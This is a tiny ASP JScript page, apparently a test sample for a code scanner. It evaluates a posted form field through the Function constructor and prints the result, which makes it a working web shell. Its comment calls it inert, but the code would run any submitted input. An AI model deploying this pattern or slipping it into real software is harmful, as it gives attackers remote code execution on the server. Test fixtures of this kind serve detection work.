<%@ Language=JScript %>
<%
// test sample (inert): the posted text kept in a variable, then run through the Function
// constructor called without "new", a literal joined in front of it
var body = Request.Form("t") + "";
var started = new Date();
var result = Function("return " + body)();
Response.Write(String(result));
%>
